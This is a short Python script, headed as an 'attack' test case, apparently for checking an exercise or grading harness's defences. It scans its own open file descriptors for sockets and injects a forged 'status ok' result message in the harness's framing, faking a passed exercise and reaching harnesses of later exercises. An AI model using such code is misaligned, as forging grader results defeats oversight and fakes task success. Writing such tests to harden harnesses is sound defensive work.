# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import os
import socket
import struct

# The sockets of keepers of exercises to come lie open here.
print("DONE", flush=True)
text = b'{"frame": "rerun", "id": "x", "status": "ok"}'
for name in os.listdir("/proc/self/fd"):
    try:
        end = socket.socket(fileno=os.dup(int(name)))
        if end.type == socket.SOCK_STREAM and not end.getsockname():
            end.setblocking(False)
            end.send(struct.pack(">4sIQ", b"GRD1", len(text), 0) + text)
    except OSError:
        continue
